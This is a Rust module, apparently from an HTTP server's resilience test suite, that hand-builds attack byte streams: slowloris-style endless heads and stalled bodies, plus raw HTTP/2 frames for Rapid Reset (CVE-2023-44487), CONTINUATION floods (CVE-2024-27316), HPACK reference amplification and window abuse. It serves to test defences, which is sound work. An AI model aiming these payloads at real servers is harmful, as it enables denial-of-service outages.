//! The bytes of attackers over TCP, without sockets and clocks. HTTP/2 frames are written by hand here, because no
//! library violates the rules.

use crate::limits::SLOW_EACH;
use std::time::Duration;

/// The host that an attacker requests.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Asked<'a> {
    pub(crate) authority: &'a str,
    pub(crate) path: &'a str,
}

/// Makes a connection of an attack, which is replaced when the server has closed it.
pub(crate) type MakeScript = fn(Asked<'_>) -> Box<dyn TcpScript>;

pub(crate) trait TcpScript: Send {
    /// The protocol for TLS negotiation; `None`: without TLS.
    fn protocol(&self) -> Option<&'static [u8]>;

    /// Whether it stays after the handshake; otherwise the next one follows at once.
    fn stays(&self) -> bool {
        true
    }

    fn reads(&self) -> bool {
        true
    }

    /// Its bytes at time `at` after the connection began.
    fn next(&mut self, at: Duration) -> Vec<u8>;
}

pub(crate) const HTTP_1: &[u8] = b"\x08http/1.1";
pub(crate) const HTTP_2: &[u8] = b"\x02h2";

/// A handshake, and nothing more.
pub(crate) struct Handshake;

impl TcpScript for Handshake {
    fn protocol(&self) -> Option<&'static [u8]> {
        Some(HTTP_1)
    }

    fn stays(&self) -> bool {
        false
    }

    fn next(&mut self, _at: Duration) -> Vec<u8> {
        Vec::new()
    }
}

/// Bytes that are sent once, followed by others that are repeated.
pub(crate) struct Repeating {
    pub(super) protocol: Option<&'static [u8]>,
    pub(super) first: Vec<u8>,
    pub(super) again: Vec<u8>,
    /// When the others are sent next, and their interval.
    pub(super) next: Duration,
    pub(super) every: Duration,
}

impl Repeating {
    /// Bytes that are not TLS, or not a request within it.
    pub(crate) fn garbage() -> Self {
        let (next, every) = (Duration::ZERO, Duration::ZERO);
        Self { protocol: Some(HTTP_1), first: Vec::new(), again: vec![0xff; 4096], next, every }
    }

    /// The first bytes of a handshake.
    pub(crate) fn handshake() -> Self {
        Self::slow(None, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(), Vec::new())
    }

    /// A head that never ends.
    pub(crate) fn head(asked: Asked<'_>) -> Self {
        let first = format!("GET {} HTTP/1.1\r\nHost: {}\r\nX: ", asked.path, asked.authority);
        Self::slow(Some(HTTP_1), first.into_bytes(), b"x".to_vec())
    }

    /// A body that stops.
    pub(crate) fn body(asked: Asked<'_>) -> Self {
        let Asked { authority, path } = asked;
        let head =
            format!("POST {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Length: 1000000\r\n\r\n");
        let first = [head.as_bytes(), &[b'x'; 1000]].concat();
        Self::slow(Some(HTTP_1), first, Vec::new())
    }

    fn slow(protocol: Option<&'static [u8]>, first: Vec<u8>, again: Vec<u8>) -> Self {
        Self { protocol, first, again, next: Duration::ZERO, every: SLOW_EACH }
    }
}

impl TcpScript for Repeating {
    fn protocol(&self) -> Option<&'static [u8]> {
        self.protocol
    }

    fn next(&mut self, at: Duration) -> Vec<u8> {
        if !self.first.is_empty() {
            return std::mem::take(&mut self.first);
        }
        if at < self.next {
            return Vec::new();
        }
        self.next = at + self.every;
        self.again.clone()
    }
}

/// An HTTP/2 connection that repeats something after its preface.
pub(crate) struct Http2 {
    first: Vec<u8>,
    repeated: Repeated,
    head: Vec<u8>,
    stream: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Repeated {
    /// Requests that are cancelled at once.
    Resets,
    /// Requests that are answered.
    Requests,
    /// Parts of a head that never ends.
    Continuations,
    /// This number of requests at once, and no more.
    Burst(u32),
    /// The same, with unread responses.
    Unread(u32),
    /// An incomplete head, without further bytes.
    Unfinished,
}

/// Frame types (RFC 9113, 6).
pub(super) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// Flags of HEADERS.
const END_STREAM: u8 = 1;
pub(super) const END_HEADERS: u8 = 4;
/// The largest window, and the setting for it on streams.
const WINDOW: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];
const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
/// The growth of a connection's window.
const MORE_WINDOW: [u8; 4] = [0x7f, 0, 0, 0];
/// Requests of one turn.
const BURST: u32 = 20;

impl Http2 {
    /// Requests that are cancelled at once (CVE-2023-44487).
    pub(crate) fn resets(asked: Asked<'_>) -> Self {
        Self::new(Repeated::Resets, head(asked, 0))
    }

    /// Requests with more fields than a head may have.
    pub(crate) fn many_fields(asked: Asked<'_>) -> Self {
        Self::new(Repeated::Requests, head(asked, 1001))
    }

    /// A hundred requests at once, each with this number of one-byte references to a field that its first bytes define.
    pub(crate) fn references(asked: Asked<'_>, count: usize) -> Self {
        Self::new(Repeated::Burst(100), referring(asked, count))
    }

    /// Requests with this number of 4-byte fields.
    pub(crate) fn large_heads(asked: Asked<'_>, count: usize) -> Self {
        Self::new(Repeated::Requests, [head(asked, 0), b"\x00\x01x\x00".repeat(count)].concat())
    }

    /// An incomplete head after this number of one-byte references to one field.
    pub(crate) fn unfinished(asked: Asked<'_>, count: usize) -> Self {
        Self::new(Repeated::Unfinished, referring(asked, count))
    }

    /// A head that never ends (CVE-2024-27316).
    pub(crate) fn continuations(asked: Asked<'_>) -> Self {
        Self::new(Repeated::Continuations, head(asked, 0))
    }

    /// Unread responses, each with the maximum credit.
    pub(crate) fn unread(asked: Asked<'_>) -> Self {
        Self::new(Repeated::Unread(100), head(asked, 0))
    }

    fn new(repeated: Repeated, head: Vec<u8>) -> Self {
        Self { first: preface(), repeated, head, stream: 1 }
    }

    fn request(&mut self, flags: u8) -> Vec<u8> {
        let request = frame(HEADERS, flags, self.stream, &self.head);
        self.stream += 2;
        request
    }
}

impl TcpScript for Http2 {
    fn protocol(&self) -> Option<&'static [u8]> {
        Some(HTTP_2)
    }

    fn reads(&self) -> bool {
        !matches!(self.repeated, Repeated::Unread(_))
    }

    fn next(&mut self, _at: Duration) -> Vec<u8> {
        let mut bytes = std::mem::take(&mut self.first);
        let whole = END_STREAM | END_HEADERS;
        match &mut self.repeated {
            Repeated::Resets => {
                for _ in 0..BURST {
                    let stream = self.stream;
                    bytes.extend(self.request(whole));
                    bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                }
            }
            Repeated::Requests => bytes.extend(self.request(whole)),
            Repeated::Continuations if bytes.is_empty() => {
                let fields = fields(100);
                for _ in 0..BURST {
                    bytes.extend(frame(CONTINUATION, 0, 1, &fields));
                }
            }
            Repeated::Unread(count) | Repeated::Burst(count) => {
                (0..std::mem::take(count)).for_each(|_| bytes.extend(self.request(whole)));
            }
            Repeated::Unfinished if bytes.is_empty() => {}
            Repeated::Continuations | Repeated::Unfinished => {
                bytes.extend(self.request(END_STREAM));
            }
        }
        bytes
    }
}

/// The beginning of a connection that grants the maximum credit.
pub(super) fn preface() -> Vec<u8> {
    let settings = [&INITIAL_WINDOW_SIZE[..], &WINDOW].concat();
    let first = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(SETTINGS, 0, 0, &settings),
        frame(WINDOW_UPDATE, 0, 0, &MORE_WINDOW),
    ];
    first.concat()
}

/// A head in HPACK without a table (RFC 7541, 6): a GET with this number of further fields.
fn head(asked: Asked<'_>, more: usize) -> Vec<u8> {
    // Entries 2, 7, 1 and 4 of the static table: method, scheme, authority, path.
    let pseudo = [vec![0x82, 0x87], text(&[0x01], asked.authority), text(&[0x04], asked.path)];
    [pseudo.concat(), fields(more)].concat()
}

/// A head with this number of one-byte references to the field that it adds to the table (RFC 7541, 6.1 and 6.2.1).
fn referring(asked: Asked<'_>, count: usize) -> Vec<u8> {
    let newest = 62;
    [head(asked, 0), b"\x40\x01x\x011".to_vec(), vec![0x80 | newest; count]].concat()
}

/// A field whose name is encoded in these bytes, with this value.
pub(super) fn text(name: &[u8], value: &str) -> Vec<u8> {
    [name, &[short(value)], value.as_bytes()].concat()
}

/// This number of 5-byte fields.
fn fields(count: usize) -> Vec<u8> {
    b"\x00\x01x\x011".repeat(count)
}

fn short(text: &str) -> u8 {
    debug_assert!(text.len() < 127, "longer ones have another form");
    u8::try_from(text.len()).unwrap_or(0)
}

/// A frame (RFC 9113, 4.1).
pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Reads frames as they arrive, and stores the reason for the connection's end.
#[derive(Debug, Default)]
pub(crate) struct GoAway {
    unread: Vec<u8>,
    /// The error code of the last GOAWAY.
    pub(crate) code: Option<u64>,
}

/// The type of GOAWAY, and the length of a frame's header.
const GOAWAY: u8 = 7;
const HEADER_BYTES: usize = 9;

impl GoAway {
    /// Processes these bytes, which have arrived.
    pub(crate) fn take(&mut self, bytes: &[u8]) {
        self.unread.extend(bytes);
        while let [high, middle, low, kind, ..] = self.unread[..] {
            let length = u32::from_be_bytes([0, high, middle, low]) as usize;
            let Some(payload) = self.unread.get(HEADER_BYTES..HEADER_BYTES + length) else {
                return;
            };
            if let (GOAWAY, Some(code)) = (kind, payload.get(4..8)) {
                self.code = code.try_into().ok().map(u32::from_be_bytes).map(u64::from);
            }
            self.unread.drain(..HEADER_BYTES + length);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ASKED: Asked<'_> = Asked { authority: "a", path: "/" };

    #[test]
    fn a_request_of_http_2_is_a_frame_of_literals() {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, 1, &head(ASKED, 1));
        let expected =
            b"\x00\x00\x0d\x01\x05\x00\x00\x00\x01\x82\x87\x01\x01a\x04\x01/\x00\x01x\x011";
        assert_eq!(request, expected);
    }

    #[test]
    fn a_burst_takes_each_of_twenty_requests_back() {
        let mut script = Http2::resets(ASKED);
        script.next(Duration::ZERO);
        let burst = script.next(Duration::ZERO);
        assert_eq!(burst.len(), 20 * (9 + 8 + 9 + 4));
        assert_eq!(script.stream, 81);
    }

    #[test]
    fn a_reference_takes_a_byte_and_a_burst_comes_once() {
        let mut script = Http2::references(ASKED, 990);
        let first = script.next(Duration::ZERO);
        assert_eq!(first.len(), preface().len() + 100 * (9 + 8 + 5 + 990));
        assert_eq!(script.next(Duration::ZERO), b"");
    }

    #[test]
    fn the_code_of_a_goaway_is_found_in_pieces() {
        let bytes =
            [frame(SETTINGS, 0, 0, &[0; 6]), frame(GOAWAY, 0, 0, &[0, 0, 0, 5, 0, 0, 0, 11])];
        let mut came = GoAway::default();
        for byte in bytes.concat() {
            assert_eq!(came.code, None);
            came.take(&[byte]);
        }
        assert_eq!(came.code, Some(11));
    }

    #[test]
    fn a_slow_head_goes_on_by_a_byte_every_200_ms() {
        let mut script = Repeating::head(ASKED);
        let mut at = |ms| script.next(Duration::from_millis(ms));
        assert_eq!(at(0), b"GET / HTTP/1.1\r\nHost: a\r\nX: ");
        assert_eq!([at(1), at(100), at(201)], [&b"x"[..], b"", b"x"]);
    }
}
